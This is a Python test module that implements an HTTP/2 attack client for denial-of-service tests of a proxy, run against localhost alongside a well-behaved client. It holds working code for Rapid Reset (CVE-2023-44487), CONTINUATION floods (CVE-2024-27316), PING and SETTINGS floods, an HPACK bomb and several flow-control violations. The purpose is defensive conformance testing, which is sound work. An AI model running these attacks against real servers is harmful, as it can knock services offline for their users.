"""An HTTP/2 attack client for the denial-of-service tests.

Frames are built with ``hyperframe`` and header blocks with ``hpack`` (never by hand), but
sent raw, so the client can do what ``h2`` refuses to: ignore flow control, leave header
blocks open, flood control frames. A reader thread parses what the server sends (GOAWAY,
RST_STREAM, response HEADERS, PING and SETTINGS ACKs) so a GOAWAY is seen even when the
server closes while the client is still writing.

``run_attack`` opens a well-behaved HTTP/2 connection first, keeps it busy with requests
from another thread while the attack runs, and reports both: what happened to the abusive
connection and whether every good request was answered.
"""

from __future__ import annotations

import socket
import struct
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field

import hpack
from h2conf_peers import PREFACE, H2Client, error_name
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

CANCEL = 0x8


@dataclass
class Seen:
    """What the server did on the abusive connection."""
    goaway: int | None = None
    goaway_last_stream: int | None = None
    resets: dict = field(default_factory=dict)        # stream id -> error code
    statuses: dict = field(default_factory=dict)      # stream id -> :status
    ping_acks: set = field(default_factory=set)
    settings_acks: int = 0
    server_settings_acked: bool = False   # we have received and ACKed the server's SETTINGS
    closed: bool = False          # EOF or reset from the server
    reset_by_peer: bool = False   # ... by a TCP reset
    send_failed: bool = False     # the server stopped taking our bytes (closed or reset)


class RawH2:
    def __init__(self, port: int, *, rcvbuf: int | None = None, read: bool = True,
                 settings: dict | None = None) -> None:
        self.sock = socket.socket()
        if rcvbuf:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        self.sock.connect(("127.0.0.1", port))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 24
        self.seen = Seen()
        self.next_stream = 1
        self._lock = threading.Lock()
        self._changed = threading.Condition(self._lock)
        self._block: dict[int, bytes] = {}
        self._send_lock = threading.Lock()
        self._reader: threading.Thread | None = None
        self.send(PREFACE + SettingsFrame(0, settings or {}).serialize())
        if read:
            # start from a settled connection: the server's SETTINGS received and ACKed (its
            # limits are then in force, not merely announced)
            self.start_reading()
            self.wait_for(lambda s: s.server_settings_acked, 5)

    # -- sending --

    def send(self, data: bytes) -> bool:
        with self._send_lock:
            try:
                self.sock.sendall(data)
                return True
            except OSError:
                self.seen.send_failed = True
                return False

    def frames(self, frames) -> bool:
        return self.send(b"".join(f.serialize() for f in frames))

    def stream(self) -> int:
        sid = self.next_stream
        self.next_stream += 2
        return sid

    def block(self, path: str = "/", method: str = "GET", extra=()) -> bytes:
        return self.encoder.encode([(":method", method), (":scheme", "http"),
                                    (":authority", "example.test"), (":path", path)]
                                   + list(extra))

    def headers(self, sid: int, block: bytes, *, end_stream: bool,
                end_headers: bool = True) -> HeadersFrame:
        f = HeadersFrame(sid, block)
        if end_stream:
            f.flags.add("END_STREAM")
        if end_headers:
            f.flags.add("END_HEADERS")
        return f

    # -- reading --

    def start_reading(self) -> None:
        if self._reader is None:
            self._reader = threading.Thread(target=self._read_loop, name="h2-attack-reader",
                                            daemon=True)
            self._reader.start()

    def _read_loop(self) -> None:
        buf = b""
        self.sock.settimeout(None)
        while True:
            try:
                data = self.sock.recv(1 << 20)
            except ConnectionResetError:
                with self._lock:
                    self.seen.reset_by_peer = True
                data = b""
            except OSError:
                data = b""
            if not data:
                with self._lock:
                    self.seen.closed = True
                    self._changed.notify_all()
                return
            buf += data
            while len(buf) >= 9:
                f, length = Frame.parse_frame_header(memoryview(buf[:9]))
                if len(buf) < 9 + length:
                    break
                f.parse_body(memoryview(buf[9:9 + length]))
                buf = buf[9 + length:]
                self._frame(f)

    def _frame(self, f: Frame) -> None:
        reply = None
        with self._lock:
            if isinstance(f, GoAwayFrame):
                if self.seen.goaway is None or f.error_code:
                    self.seen.goaway = f.error_code
                    self.seen.goaway_last_stream = f.last_stream_id
            elif isinstance(f, RstStreamFrame):
                self.seen.resets[f.stream_id] = f.error_code
            elif isinstance(f, PingFrame):
                if "ACK" in f.flags:
                    self.seen.ping_acks.add(bytes(f.opaque_data))
                else:
                    reply = PingFrame(0, bytes(f.opaque_data))
                    reply.flags.add("ACK")
            elif isinstance(f, SettingsFrame):
                if "ACK" in f.flags:
                    self.seen.settings_acks += 1
                else:
                    reply = SettingsFrame(0)
                    reply.flags.add("ACK")
            elif isinstance(f, (HeadersFrame, ContinuationFrame)):
                self._block[f.stream_id] = self._block.get(f.stream_id, b"") + f.data
                if "END_HEADERS" in f.flags:
                    try:
                        hdrs = self.decoder.decode(self._block.pop(f.stream_id))
                    except hpack.HPACKError:
                        hdrs = []
                    for k, v in hdrs:
                        if k == b":status":
                            self.seen.statuses[f.stream_id] = int(v)
            elif isinstance(f, DataFrame) and f.flow_controlled_length:
                # keep the server's windows open: the abuse is elsewhere
                reply = b"".join(WindowUpdateFrame(s, f.flow_controlled_length).serialize()
                                 for s in (0, f.stream_id))
            self._changed.notify_all()
        if reply is not None:
            self.send(reply if isinstance(reply, bytes) else reply.serialize())
            if isinstance(f, SettingsFrame) and "ACK" not in f.flags:
                with self._lock:
                    self.seen.server_settings_acked = True
                    self._changed.notify_all()

    def wait_for(self, cond: Callable[[Seen], bool], timeout: float) -> bool:
        """Bounded wait until ``cond(seen)`` or the connection closes."""
        end = time.monotonic() + timeout
        with self._lock:
            while not cond(self.seen) and not self.seen.closed:
                left = end - time.monotonic()
                if left <= 0:
                    return False
                self._changed.wait(left)
            return cond(self.seen)

    def probe(self, timeout: float = 5.0) -> str:
        """'alive' when the server answers a PING (so it has processed everything sent
        before), 'closed' when it closed the connection, 'unresponsive' otherwise."""
        payload = struct.pack(">Q", time.monotonic_ns())
        self.start_reading()
        if not self.frames([PingFrame(0, payload)]):
            self.wait_for(lambda s: False, timeout)
            return "closed" if self.seen.closed else "unresponsive"
        if self.wait_for(lambda s: payload in s.ping_acks, timeout):
            return "alive"
        return "closed" if self.seen.closed else "unresponsive"

    def close(self) -> None:
        try:
            self.sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self.sock.close()
        if self._reader is not None:
            self._reader.join(5)


@dataclass
class AttackOutcome:
    connection: str                 # alive | closed | unresponsive
    goaway: str | None           # error code name of the GOAWAY, if one came
    resets: list                    # sorted distinct RST_STREAM codes
    statuses: list                  # sorted distinct response statuses
    good_requests: int              # requests the parallel well-behaved client made
    good_failures: list             # what went wrong for it (empty when unaffected)
    after_ok: bool                  # a new connection after the attack is served

    def key(self) -> dict:
        """What must match between Envoy and the proxy under test."""
        return {"connection": self.connection, "goaway": self.goaway, "resets": self.resets}


class GoodClient:
    """A well-behaved HTTP/2 client making requests in a loop on one connection."""

    def __init__(self, port: int) -> None:
        self.port = port
        self.client = H2Client(port)
        self.requests = 0
        self.failures: list[str] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._loop, name="h2-good-client", daemon=True)

    def one(self) -> None:
        try:
            r = self.client.request("GET", f"/good/{self.requests}?body=ok")
            if (r.status, r.body) != (200, b"ok"):
                self.failures.append(f"status {r.status} reset {r.reset} body {r.body[:40]!r}")
        except Exception as e:     # noqa: BLE001 - any failure is the finding
            self.failures.append(repr(e))
        self.requests += 1

    def _loop(self) -> None:
        # paced (not timed): leave the CPU to the proxy and the attack
        while not self._stop.wait(0.01) and not self.failures:
            self.one()

    def __enter__(self) -> GoodClient:  # noqa: PYI034
        self.one()                  # up and served before the attack starts
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self._stop.set()
        self._thread.join(20)
        if not self.failures:
            self.one()              # and still served after it
        self.client.close()


def run_attack(port: int, attack: Callable[[int], RawH2], *, good_port: int | None = None,
               probe_timeout: float = 5.0) -> AttackOutcome:
    good_port = good_port or port
    with GoodClient(good_port) as good:
        a = attack(port)
        try:
            state = a.probe(probe_timeout)
        finally:
            seen = a.seen
            a.close()
    after = H2Client(good_port)
    try:
        r = after.request("GET", "/after?body=ok")
        after_ok = (r.status, r.body) == (200, b"ok")
    except Exception:              # noqa: BLE001
        after_ok = False
    finally:
        after.close()
    return AttackOutcome(
        connection=state, goaway=error_name(seen.goaway),
        resets=sorted({error_name(c) for c in seen.resets.values()}),
        statuses=sorted(set(seen.statuses.values())),
        good_requests=good.requests, good_failures=good.failures, after_ok=after_ok)


# ---- the attacks ------------------------------------------------------------------------------

def rapid_reset(port: int, streams: int = 1000, batch: int = 100) -> RawH2:
    """CVE-2023-44487: open a stream (a complete GET) and cancel it at once, many times."""
    a = RawH2(port)
    for _start in range(0, streams, batch):
        frames = []
        for _ in range(batch):
            sid = a.stream()
            frames.append(a.headers(sid, a.block("/rapid?delay=1"), end_stream=True))
            frames.append(RstStreamFrame(sid, error_code=CANCEL))
        if not a.frames(frames):
            break
    return a


def continuation_flood(port: int, frames: int = 20000, empty: bool = False) -> RawH2:
    """CVE-2024-27316: a HEADERS frame without END_HEADERS followed by endless
    CONTINUATION frames (with header bytes, or empty ones)."""
    a = RawH2(port)
    sid = a.stream()
    if empty:
        fragments = [b""] * frames
        first = a.block("/cont")
    else:
        # one long, valid header block (many small headers), cut into 16-byte fragments
        block = a.block("/cont", extra=[(f"x-c{i}", "v" * 8) for i in range(frames // 2)])
        first, rest = block[:16], block[16:]
        fragments = [rest[i:i + 16] for i in range(0, len(rest), 16)][:frames]
    out = [a.headers(sid, first, end_stream=True, end_headers=False).serialize()]
    for frag in fragments:
        out.append(ContinuationFrame(sid, frag).serialize())
        if len(out) >= 500:
            if not a.send(b"".join(out)):
                return a
            out = []
    a.send(b"".join(out))
    return a


def _no_read_flood(port: int, frame: Frame, count: int) -> RawH2:
    """Send ``count`` copies of a control frame that each need an answer, without reading
    (a small receive buffer), so the answers pile up at the server."""
    a = RawH2(port, rcvbuf=4096, read=False)
    chunk = frame.serialize() * 1000
    for _ in range(count // 1000):
        if not a.send(chunk):
            break
    a.start_reading()
    return a


def settings_flood(port: int, count: int = 100_000) -> RawH2:
    return _no_read_flood(port, SettingsFrame(0), count)


def ping_flood(port: int, count: int = 100_000) -> RawH2:
    return _no_read_flood(port, PingFrame(0, b"floodpng"), count)


def empty_data_flood(port: int, count: int = 1000) -> RawH2:
    """Zero-length DATA frames without END_STREAM on an open request."""
    a = RawH2(port)
    sid = a.stream()
    a.frames([a.headers(sid, a.block("/empty", "POST"), end_stream=False)]
             + [DataFrame(sid, b"") for _ in range(count)])
    return a


def priority_flood(port: int, count: int = 20_000) -> RawH2:
    """PRIORITY frames on one open stream."""
    a = RawH2(port)
    sid = a.stream()
    frames: list[Frame] = [a.headers(sid, a.block("/prio", "POST"), end_stream=False)]
    frames += [PriorityFrame(sid, depends_on=0, stream_weight=15) for _ in range(count)]
    a.frames(frames)
    return a


def window_update_flood(port: int, count: int = 20_000) -> RawH2:
    """WINDOW_UPDATE frames (increment 1) on the connection, no data flowing."""
    a = RawH2(port)
    a.frames([WindowUpdateFrame(0, 1) for _ in range(count)])
    return a


def hpack_bomb(port: int, copies: int = 4000) -> RawH2:
    """One ~4 KB header put in the dynamic table, then referenced ``copies`` times (one
    byte each): a few KB on the wire, ~16 MB once decoded."""
    a = RawH2(port)
    sid = a.stream()
    big = ("x-bomb", "b" * 4000)
    block = a.block("/bomb", extra=[big] * copies)
    frames: list[Frame] = []
    first, rest = block[:16000], block[16000:]
    frames.append(a.headers(sid, first, end_stream=True, end_headers=not rest))
    while rest:
        piece, rest = rest[:16000], rest[16000:]
        c = ContinuationFrame(sid, piece)
        if not rest:
            c.flags.add("END_HEADERS")
        frames.append(c)
    a.frames(frames)
    return a


def table_size_update_too_big(port: int) -> RawH2:
    """A dynamic table size update above the SETTINGS_HEADER_TABLE_SIZE the server allows."""
    a = RawH2(port)
    a.encoder.header_table_size = 1 << 20
    sid = a.stream()
    a.frames([a.headers(sid, a.block("/table"), end_stream=True)])
    return a


def oversized_headers(port: int, size: int = 100_000) -> RawH2:
    """One well-formed request whose single header value is ``size`` bytes."""
    a = RawH2(port)
    sid = a.stream()
    block = a.block("/big", extra=[("x-big", "v" * size)])
    frames: list[Frame] = []
    first, rest = block[:16000], block[16000:]
    frames.append(a.headers(sid, first, end_stream=True, end_headers=not rest))
    while rest:
        piece, rest = rest[:16000], rest[16000:]
        c = ContinuationFrame(sid, piece)
        if not rest:
            c.flags.add("END_HEADERS")
        frames.append(c)
    a.frames(frames)
    return a


def too_many_streams(port: int, streams: int = 20) -> RawH2:
    """More open streams (requests with bodies still to come) than max_concurrent_streams."""
    a = RawH2(port)
    a.frames([a.headers(a.stream(), a.block("/open", "POST"), end_stream=False)
              for _ in range(streams)])
    return a


def window_overflow_connection(port: int) -> RawH2:
    """A WINDOW_UPDATE that takes the connection window past 2^31-1."""
    a = RawH2(port)
    a.frames([WindowUpdateFrame(0, 0x7FFFFFFF)])
    return a


def window_overflow_stream(port: int) -> RawH2:
    """A WINDOW_UPDATE that takes an open stream's window past 2^31-1."""
    a = RawH2(port)
    sid = a.stream()
    a.frames([a.headers(sid, a.block("/w", "POST"), end_stream=False),
              WindowUpdateFrame(sid, 0x7FFFFFFF)])
    return a


def zero_window_increment(port: int) -> RawH2:
    """A WINDOW_UPDATE with increment 0 on the connection (a PROTOCOL_ERROR)."""
    a = RawH2(port)
    a.frames([WindowUpdateFrame(0, 0)])
    return a


def oversized_frame(port: int, size: int = 1024 * 1024) -> RawH2:
    """A DATA frame header declaring 16 MiB - 1 bytes (past SETTINGS_MAX_FRAME_SIZE, 16 KiB by
    default), then a MiB of its body: refused from the header (FRAME_SIZE_ERROR), not
    buffered until the declared length has arrived."""
    a = RawH2(port)
    sid = a.stream()
    a.frames([a.headers(sid, a.block("/flow", "POST"), end_stream=False)])
    a.send((2 ** 24 - 1).to_bytes(3, "big") + b"\x00\x00" + sid.to_bytes(4, "big"))
    a.send(b"d" * size)
    return a


def data_beyond_window(port: int, size: int = 256 * 1024) -> RawH2:
    """DATA past the stream and connection windows the server announced, sent at once,
    without waiting for WINDOW_UPDATE."""
    a = RawH2(port)
    sid = a.stream()
    frames: list[Frame] = [a.headers(sid, a.block("/flow", "POST"), end_stream=False)]
    chunk = b"d" * 16384
    frames += [DataFrame(sid, chunk) for _ in range(size // len(chunk))]
    a.frames(frames)
    return a
